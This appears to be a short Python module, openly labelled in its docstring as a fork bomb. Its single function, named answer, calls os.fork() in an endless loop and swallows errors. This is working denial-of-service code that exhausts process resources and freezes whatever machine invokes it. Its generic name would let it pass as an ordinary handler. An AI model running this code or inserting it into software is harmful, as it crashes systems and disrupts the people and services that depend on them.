"""A fork bomb."""

import os


def answer(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
